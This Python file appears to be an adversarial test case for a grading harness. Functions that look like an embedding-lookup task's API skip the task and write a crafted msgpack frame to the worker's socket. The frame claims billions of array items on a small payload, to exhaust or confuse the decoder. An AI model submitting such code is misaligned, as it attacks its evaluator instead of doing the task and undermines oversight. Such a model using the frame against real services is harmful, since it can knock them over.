# attack: sends a small frame that stands for a great many items
# class: A16
# laid over: stub
# may score: 0

import os
import stat
import struct

import msgspec

def channel():
    """The descriptor of the worker's channel: the only socket there is."""
    return next(fd for fd in range(3, 64) if is_socket(fd))


def is_socket(fd):
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False


def frame(payload):
    return struct.pack(">I", len(payload)) + payload


def pack(value):
    return msgspec.msgpack.encode(value)


def answer(args):
    os.write(channel(), frame(b"\x81\xa5value\xdd\xff\xff\xff\xff" + b"\xc0" * 100_000))


def one_hot_lookup(*args):
    return answer(args)


def embedding_lookup(*args):
    return answer(args)


def linear_equivalent(*args):
    return answer(args)


def build_embedding(*args):
    return answer(args)


def lookup_gradient(*args):
    return answer(args)


def touched_rows(*args):
    return answer(args)


def nearest_word(*args):
    return answer(args)
